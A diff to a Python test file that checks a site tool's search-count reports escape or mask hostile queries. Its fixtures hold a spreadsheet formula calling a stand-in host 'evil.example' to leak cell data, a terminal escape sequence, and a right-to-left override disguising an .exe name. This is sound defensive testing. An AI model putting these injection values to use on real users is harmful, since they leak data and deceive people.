@@ -111,6 +111,8 @@ def test_pageviews_searches_csv_has_no_formula_and_the_report_no_control(minimal
     queries = {r.key for r in read_counts(counts, "searches")}
     assert '=hyperlink("http://evil.example/"&a1,"ver")' in queries
     assert "\x1b]0;pwned\x07" in queries
+    # an invisible bidi override is dropped with the other invisible characters as the query is masked
+    assert "txt.exe" in queries and not any("\u202e" in q for q in queries)
 
     # standard output is printed too: escaped
     out = io.StringIO()
@@ -124,7 +126,10 @@ def test_pageviews_searches_csv_has_no_formula_and_the_report_no_control(minimal
     assert "fiscal/\\x1b]0;pwned\\x07.html (1)" in report and "linha estranha \\x1b]0;log\\x07" in report
     assert not _raw_controls(report)
 
-    # kbgen searches: text and CSV reports
+    # kbgen searches: text and CSV reports, of this file and of one written by another tool (or by a
+    # kbgen before masking) that still holds a bidi override
+    with counts.open("a", encoding="utf-8") as more:
+        more.write("\u202etxt.exe,1\n")
     text = io.StringIO()
     assert searches(SearchesOptions((counts,), minimal_site), text) == ExitStatus.OK
     assert "\\x1b]0;pwned\\x07" in text.getvalue() and "\\u202etxt.exe" in text.getvalue()
